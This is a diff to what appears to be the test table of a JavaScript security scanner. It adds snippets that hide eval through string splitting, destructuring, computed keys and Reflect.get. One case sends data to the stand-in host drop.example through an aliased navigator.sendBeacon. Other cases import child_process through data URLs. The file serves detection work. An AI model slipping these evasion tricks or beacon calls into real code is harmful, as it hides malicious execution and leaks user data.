@@ -257,6 +257,18 @@ REST = {
         "let code = ''; for (const c of text) code = c + code; eval(code);",
         ["1 dynamic-code eval"],
     ),
+    "eval, bound to nothing": ("const f = globalThis[`ev${'al'}`].bind(null); f(x);", ["1 dynamic-code eval"]),
+    "eval, picked by a pattern": ("var { eval: e } = globalThis; e(x);", ["1 dynamic-code eval"]),
+    "eval, picked by a computed key": ("var { ['ev' + 'al']: e } = globalThis; e(x);", ["1 dynamic-code eval"]),
+    "eval, picked by a function": ("const e = Reflect.get(globalThis, 'ev' + 'al'); e(x);", ["1 dynamic-code eval"]),
+    "a navigator under another name": (
+        "const c = window.navigator; c.sendBeacon('https://drop.example', x);",
+        ["1 host drop.example", "1 network navigator.sendBeacon -> drop.example"],
+    ),
+    "names of consequence that nobody uses": (
+        "const process = (binding) => binding.text; // eval(x)\nconst text = '\\\\u0065val';",
+        [],
+    ),
     "no code": ("eval(''); new Function('');", []),
     "a data address as a module": (
         "import('data:text/javascript,require(%22child_process%22)'); import('data:text/javascript,eval(x)');",
